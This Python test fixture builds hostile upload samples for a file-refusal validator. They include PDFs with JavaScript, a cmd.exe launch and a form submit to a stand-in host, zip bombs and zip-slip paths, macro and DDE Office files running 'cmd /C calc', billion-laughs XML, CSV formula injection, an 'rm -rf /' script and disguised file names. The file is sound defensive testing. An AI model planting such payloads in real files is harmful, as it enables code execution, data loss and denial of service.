"""Hostile files: what each is made of, what it is called, and for which cause it is refused."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf

from portal.uploads.refusals import Cause
from tests.portal.uploads import samples
from tests.portal.uploads.samples import TYPES, WORD, archive, edited, related, typed

NAME = pikepdf.Name
D = pikepdf.Dictionary
DOCTYPE = '<!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 60


# --- PDF --------------------------------------------------------------------------------------


def script(document):
    document.Root.OpenAction = D(S=NAME.JavaScript, JS="app.alert(1)")


def hidden_script(document):
    """In a list in a list in a page's own actions."""
    step = D(S=NAME.GoTo, Next=[D(S=NAME.GoTo, Next=[D(S=NAME.JavaScript, JS="x()")])])
    document.pages[0].AA = D(O=step)


def launch(document):
    document.Root.OpenAction = D(S=NAME.Launch, F="cmd.exe")


def sends(document):
    document.pages[0].Annots = [D(Subtype=NAME.Link, A=D(S=NAME.SubmitForm, F="http://x.test"))]


def attached(document):
    document.attachments["list.txt"] = b"names"


def attached_to_page(document):
    file = document.make_stream(b"names", Type=NAME.EmbeddedFile)
    spec = D(Type=NAME.Filespec, F="list.txt", EF=D(F=file))
    document.pages[0].Annots = [D(Subtype=NAME.FileAttachment, FS=spec)]


def form(document):
    document.Root.AcroForm = D(Fields=[], XFA=document.make_stream(b"<xdp/>"))


def locked_pdf() -> bytes:
    return samples.pdf(encryption=pikepdf.Encryption(owner="one", user="two"))


def half_locked_pdf() -> bytes:
    """Opens without a password, and forbids what it likes."""
    return samples.pdf(encryption=pikepdf.Encryption(owner="one", user=""))


def escaped_script() -> bytes:
    """The name is written as /J#61vaScript, which readers take for the same."""
    return samples.pdf(script).replace(b"/JavaScript", b"/J#61vaScript")


def inflating_pdf() -> bytes:
    """Its objects lie in a stream that unpacks to far more than there is memory."""
    packed = zlib.compress(b" " * (1024 * 1024 * 700))
    head = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
    body = head + str(len(packed)).encode() + b">>\nstream\n" + packed + b"\nendstream\nendobj\n"
    rows = b"\x01\x00\x00\x09" + b"\x02\x00\x01\x00"
    entry = (
        b"3 0 obj\n<</Type/XRef/Size 4/W[1 2 1]/Index[1 1 2 1]/Root 2 0 R/Length "
        + str(len(rows)).encode()
        + b">>\nstream\n"
        + rows
        + b"\nendstream\nendobj\n"
    )
    return body + entry + b"startxref\n" + str(len(body)).encode() + b"\n%%EOF\n"


# --- Archives ---------------------------------------------------------------------------------


def bomb() -> bytes:
    """Declares 300 MB."""
    return samples.repacked(samples.excel(), {"xl/media/big.xml": b"\x00" * 300 * 1024 * 1024})


def small_bomb() -> bytes:
    """Below 100 MB, at a thousandth of its size."""
    return samples.repacked(samples.word(), {"word/big.xml": b"<a>" + b" " * 50 * 1024 * 1024})


def understated() -> bytes:
    """Says 1000 bytes in the directory and in its own header, and unpacks to 50 MB."""
    whole = samples.repacked(samples.word(), {"word/media/a.png": b"\x00" * 50 * 1024 * 1024})
    entry = next(
        at for at in samples.directory_entries(whole) if whole[at + 46 :].startswith(b"word/media/")
    )
    (own,) = struct.unpack_from("<L", whole, entry + 42)
    whole = samples.patched(whole, entry + 24, "<L", 1000)
    return samples.patched(whole, own + 22, "<L", 1000)


def two_stories() -> bytes:
    """The directory states another size than the part itself."""
    whole = samples.word()
    return samples.patched(whole, samples.directory_entries(whole)[3] + 24, "<L", 12)


def miscounted() -> bytes:
    whole = samples.word()
    return samples.patched(
        samples.patched(whole, len(whole) - 12, "<H", 3), len(whole) - 14, "<H", 3
    )


def overlapping() -> bytes:
    """Two entries of the directory lead to the same bytes."""
    with zipfile.ZipFile(made := BytesIO(samples.word()), "a") as file:
        file.writestr("word/media/a.png", b"A" * 100)
        file.writestr("word/media/b.png", b"A" * 100)
    whole = made.getvalue()
    one, two = samples.directory_entries(whole)[-2:]
    (start,) = struct.unpack_from("<L", whole, one + 42)
    return samples.patched(whole, two + 42, "<L", start)


def twice() -> bytes:
    """Two parts that differ only in case: which one is read depends on the reader."""
    return samples.repacked(samples.word(), {"word/DOCUMENT.xml": b"<a/>"})


def many_entries() -> bytes:
    return archive({f"word/{n}.xml": b"" for n in range(100_000)}, zipfile.ZIP_STORED)


def many_entries_denied() -> bytes:
    """100 000 entries, of which the end record speaks of three."""
    whole = many_entries()
    return samples.patched(
        samples.patched(whole, len(whole) - 12, "<H", 3), len(whole) - 14, "<H", 3
    )


def linked_part() -> bytes:
    with zipfile.ZipFile(made := BytesIO(samples.word()), "a") as file:
        entry = zipfile.ZipInfo("word/media/a.png")
        entry.create_system = 3
        entry.external_attr = 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    return made.getvalue()


def with_name(name: str) -> bytes:
    return samples.repacked(samples.word(), {name: b"data"})


def with_null() -> bytes:
    return with_name("word/aXb.xml").replace(b"aXb.xml", b"a\x00b.xml")


def locked_zip() -> bytes:
    whole = samples.word()
    at = samples.directory_entries(whole)[0]
    return samples.patched(whole, at + 8, "<H", 1)


def nested() -> bytes:
    return samples.repacked(samples.word(), {"word/embeddings/a.bin": archive({"a": b"a" * 9})})


# --- Office -----------------------------------------------------------------------------------


def macros() -> bytes:
    return samples.repacked(samples.excel(), {"xl/vbaProject.bin": b"Attribute VB_Name"})


def macros_renamed() -> bytes:
    """A workbook with macros, called .xlsx."""
    main = f"{TYPES}.spreadsheetml.sheet.main+xml"
    enabled = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return edited(samples.excel(), "[Content_Types].xml", main, enabled)


def macro_part() -> bytes:
    """A project under a name that says nothing."""
    return typed(samples.excel(), "xl/data.dat", "application/vnd.ms-office.vbaProject", b"x")


def old_macro_sheet() -> bytes:
    return typed(samples.excel(), "xl/m.xml", "application/vnd.ms-excel.macrosheet+xml", b"<a/>")


def field(*runs: str) -> bytes:
    """A field whose code is split over runs."""
    parts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return edited(
        samples.word(), "word/document.xml", "<w:sectPr", f"<w:p>{begin}{parts}{end}</w:p><w:sectPr"
    )


def simple_field() -> bytes:
    code = '<w:p><w:fldSimple w:instr=" DDE excel c:\\x"/></w:p><w:sectPr'
    return edited(samples.word(), "word/document.xml", "<w:sectPr", code)


def command_link() -> bytes:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    )
    kind = f"{TYPES}.spreadsheetml.externalLink+xml"
    made = typed(samples.excel(), "xl/externalLinks/externalLink1.xml", kind, link)
    return related(made, "xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml")


def workbook_link() -> bytes:
    return related(
        *(samples.excel(), "xl/workbook.xml", "externalLink"), "externalLinks/externalLink1.xml"
    )


def remote(kind: str, target: str) -> bytes:
    return related(samples.word(), "word/document.xml", kind, target, mode="External")


def doctype(encoding: str = "utf-8") -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{DOCTYPE}<w:document xmlns:w="{WORD}"/>'
    return samples.repacked(samples.word(), {"word/document.xml": text.encode(encoding)})


def outside_entity() -> bytes:
    text = '<!DOCTYPE w SYSTEM "http://127.0.0.1:9/x.dtd"><w/>'
    return samples.repacked(samples.word(), {"customXml/item9.xml": text.encode()})


def strange_main() -> bytes:
    """A presentation."""
    main = f"{TYPES}.wordprocessingml.document.main+xml"
    other = f"{TYPES}.presentationml.presentation.main+xml"
    return edited(samples.word(), "[Content_Types].xml", main, other)


def long_text() -> bytes:
    text = "".join(f"<p>{n * 7919}</p>" for n in range(2_200_000))
    return samples.repacked(samples.word(), {"word/document.xml": f"<w>{text}</w>".encode()})


def padded_png() -> bytes:
    return samples.png() + archive({"a.html": SVG})


C = Cause
# What it is → how it is built, what it is called, why it is refused.
HOSTILE = {
    "nothing": (lambda: b"", "report.pdf", C.EMPTY),
    "too big": (lambda: b"%PDF-1.7\n" + b" " * (10 * 1024 * 1024), "report.pdf", C.TOO_BIG),
    "svg": (lambda: SVG, "logo.png", C.WEB_PAGE),
    "html": (lambda: b"<!doctype html><script>alert(1)</script>", "table.csv", C.WEB_PAGE),
    "html in utf-16": (lambda: "<html>".encode("utf-16"), "table.csv", C.WEB_PAGE),
    "html after a comma": (lambda: b"a,b\n1,<script>alert(1)</script>", "table.csv", C.WEB_PAGE),
    "xml": (lambda: b'<?xml version="1.0"?><?xml-stylesheet href="x"?><a/>', "a.xml", C.WEB_PAGE),
    "program": (lambda: PROGRAM, "report.docx", C.PROGRAM),
    "script": (lambda: b"#!/bin/sh\nrm -rf /\n", "table.csv", C.PROGRAM),
    "rar": (lambda: b"Rar!\x1a\x07\x00", "report.docx", C.ARCHIVE),
    "old word": (lambda: OLE + b"\x00" * 600, "report.doc", C.OLD_OFFICE),
    "locked word": (
        lambda: OLE + b"\x00" * 600 + "EncryptedPackage".encode("utf-16-le"),
        *("report.docx", C.ENCRYPTED),
    ),
    "text": (lambda: b"Dear Ana,\n", "letter.txt", C.TYPE),
    "word called pdf": (samples.word, "report.pdf", C.MISNAMED),
    "picture called word": (samples.png, "report.docx", C.MISNAMED),
    "pdf.exe": (samples.pdf, "report.pdf.exe", C.NAME_PROGRAM),
    "exe.pdf": (samples.pdf, "report.exe.pdf", C.NAME_PROGRAM),
    "exe in wide letters": (samples.pdf, "report．ｅｘｅ.pdf", C.NAME_PROGRAM),
    "turned name": (samples.pdf, "report\u202efdp.exe", C.NAME_HIDDEN),
    "isolated name": (samples.pdf, "report\u2067fdp\u2069.pdf", C.NAME_HIDDEN),
    "marked name": (samples.pdf, "تقرير\u200f.pdf", C.NAME_HIDDEN),
    "null in name": (samples.pdf, "report.pdf\x00.exe", C.NAME_HIDDEN),
    "break in name": (samples.pdf, "report\r\nX: y.pdf", C.NAME_HIDDEN),
    "tags in name": (samples.pdf, "report\U000e0041.pdf", C.NAME_HIDDEN),
    "pile in name": (samples.pdf, "re" + "\u0301" * 40 + "port.pdf", C.NAME_HIDDEN),
    "long name": (samples.pdf, "a" * 296 + ".pdf", C.NAME_LONG),
    "no name": (samples.pdf, ".pdf", C.NAME_MISSING),
    "only a path": (samples.pdf, "../../", C.NAME_MISSING),
    "pdf after html": (lambda: b"<html></html>" + samples.pdf(), "a.pdf", C.WEB_PAGE),
    "pdf after rubbish": (lambda: b"\x01\x02" + samples.pdf(), "a.pdf", C.POLYGLOT),
    "html in pdf": (
        lambda: samples.pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<html><script>x()</script>\n"),
        *("a.pdf", C.POLYGLOT),
    ),
    "html after pdf": (lambda: samples.pdf() + b"<script>x()</script>", "a.pdf", C.POLYGLOT),
    "zip after pdf": (lambda: samples.pdf() + archive({"a": b"a"}), "a.pdf", C.POLYGLOT),
    "pdf without end": (lambda: samples.pdf()[:-20], "a.pdf", C.DAMAGED),
    "pdf without pages": (lambda: b"%PDF-1.7\nnothing\n%%EOF\n", "a.pdf", C.DAMAGED),
    "pdf that inflates": (inflating_pdf, "a.pdf", C.DAMAGED),
    "pdf with script": (lambda: samples.pdf(script), "a.pdf", C.PDF_SCRIPT),
    "pdf with escaped script": (escaped_script, "a.pdf", C.PDF_SCRIPT),
    "pdf with hidden script": (lambda: samples.pdf(hidden_script), "a.pdf", C.PDF_SCRIPT),
    "pdf with dynamic form": (lambda: samples.pdf(form), "a.pdf", C.PDF_SCRIPT),
    "pdf that launches": (lambda: samples.pdf(launch), "a.pdf", C.PDF_ACTION),
    "pdf that sends": (lambda: samples.pdf(sends), "a.pdf", C.PDF_ACTION),
    "pdf with attachment": (lambda: samples.pdf(attached), "a.pdf", C.PDF_ATTACHMENT),
    "pdf with pinned file": (lambda: samples.pdf(attached_to_page), "a.pdf", C.PDF_ATTACHMENT),
    "locked pdf": (locked_pdf, "a.pdf", C.ENCRYPTED),
    "half locked pdf": (half_locked_pdf, "a.pdf", C.ENCRYPTED),
    "zip bomb": (bomb, "a.xlsx", C.BOMB),
    "small zip bomb": (small_bomb, "a.docx", C.BOMB),
    "understated part": (understated, "a.docx", C.FORGED),
    "two stories": (two_stories, "a.docx", C.FORGED),
    "miscounted": (miscounted, "a.docx", C.FORGED),
    "overlapping parts": (overlapping, "a.docx", C.OVERLAP),
    "same part twice": (twice, "a.docx", C.OVERLAP),
    "100 000 entries": (many_entries, "a.docx", C.TOO_MANY_PARTS),
    "100 000 entries denied": (many_entries_denied, "a.docx", C.TOO_MANY_PARTS),
    "symbolic link": (linked_part, "a.docx", C.PATHS),
    "zip slip": (lambda: with_name("word/../../../etc/cron.d/a"), "a.docx", C.PATHS),
    "absolute part": (lambda: with_name("/etc/passwd"), "a.docx", C.PATHS),
    "windows part": (lambda: with_name("C:\\a.dll"), "a.docx", C.PATHS),
    "null in part": (with_null, "a.docx", C.PATHS),
    "locked part": (locked_zip, "a.docx", C.ENCRYPTED),
    "archive in archive": (nested, "a.docx", C.NESTED),
    "plain zip": (lambda: archive({"a.exe": PROGRAM}), "a.docx", C.NOT_OFFICE),
    "program inside": (
        lambda: samples.repacked(samples.word(), {"word/a.exe": b"x"}),
        *("a.docx", C.PROGRAM),
    ),
    "hidden program": (
        lambda: samples.repacked(samples.word(), {"word/media/a.png": PROGRAM}),
        *("a.docx", C.PROGRAM),
    ),
    "zip after rubbish": (lambda: b"PK\x03\x04" + samples.word(), "a.docx", C.POLYGLOT),
    "html after zip": (lambda: samples.word() + b"<script>x()</script>", "a.docx", C.POLYGLOT),
    "cut zip": (lambda: samples.word()[:-400], "a.docx", C.DAMAGED),
    "presentation": (strange_main, "a.docx", C.NOT_OFFICE),
    "endless text": (long_text, "a.docx", C.TOO_COMPLEX),
    "macros": (macros, "a.xlsx", C.MACROS),
    "macros renamed": (macros_renamed, "a.xlsx", C.MACROS),
    "macro part": (macro_part, "a.xlsx", C.MACROS),
    "old macro sheet": (old_macro_sheet, "a.xlsx", C.MACROS),
    "ole": (
        lambda: samples.repacked(samples.word(), {"word/embeddings/a.bin": OLE}),
        *("a.docx", C.OLE),
    ),
    "control": (
        lambda: related(samples.word(), "word/document.xml", "control", "activeX/a.xml"),
        *("a.docx", C.OLE),
    ),
    "imported page": (
        lambda: related(samples.word(), "word/document.xml", "aFChunk", "a.html"),
        *("a.docx", C.NESTED),
    ),
    "remote template": (
        lambda: remote("attachedTemplate", "https://x.test/a.dotm"),
        *("a.docx", C.TEMPLATE),
    ),
    "remote picture": (lambda: remote("image", "http://x.test/a.png"), "a.docx", C.CONNECTION),
    "script link": (lambda: remote("hyperlink", "javascript:x()"), "a.docx", C.HYPERLINK),
    "share link": (lambda: remote("hyperlink", r"\\x.test\a"), "a.docx", C.HYPERLINK),
    "handler link": (lambda: remote("hyperlink", "ms-msdt:/id"), "a.docx", C.HYPERLINK),
    "workbook link": (workbook_link, "a.xlsx", C.WORKBOOK_LINK),
    "dde link": (command_link, "a.xlsx", C.DDE),
    "dde field": (lambda: field(" DDEAUTO c:\\x"), "a.docx", C.DDE),
    "split dde field": (lambda: field(" ", "D", "DE", "AUTO", " c:\\x"), "a.docx", C.DDE),
    "simple dde field": (simple_field, "a.docx", C.DDE),
    "billion laughs": (doctype, "a.docx", C.DOCTYPE),
    "doctype in utf-16": (lambda: doctype("utf-16"), "a.docx", C.DOCTYPE),
    "entity from outside": (outside_entity, "a.docx", C.DOCTYPE),
    "not xml": (
        lambda: samples.repacked(samples.word(), {"word/document.xml": b"<w:a"}),
        *("a.docx", C.DAMAGED),
    ),
    "null in table": (lambda: b"a,b\n1,\x00", "table.csv", C.NOT_TEXT),
    "bell in table": (lambda: b"a,b\n1,\x07", "table.csv", C.NOT_TEXT),
    "latin table": (lambda: "pays,C\xf4te".encode("latin-1"), "table.csv", C.ENCODING),
    "formula": (lambda: b'a,b\n1,=HYPERLINK("http://x.test")\n', "table.csv", C.FORMULA),
    "dde in table": (lambda: b"a;b\n1;-cmd|'/C calc'!A0\n", "table.csv", C.FORMULA),
    "pixel flood": (lambda: samples.png(60_000, 60_000), "map.png", C.PIXELS),
    "jpeg pixel flood": (lambda: samples.jpeg(60_000, 60_000), "map.jpg", C.PIXELS),
    "zip after png": (padded_png, "map.png", C.POLYGLOT),
    "html after jpeg": (lambda: samples.jpeg() + b"<script>x()</script>", "a.jpg", C.POLYGLOT),
    "cut png": (lambda: samples.png()[:-6], "map.png", C.DAMAGED),
    "png without size": (lambda: samples.png(0, 9), "map.png", C.DAMAGED),
    "jpeg without frame": (lambda: b"\xff\xd8\xff\xd9", "a.jpg", C.DAMAGED),
}
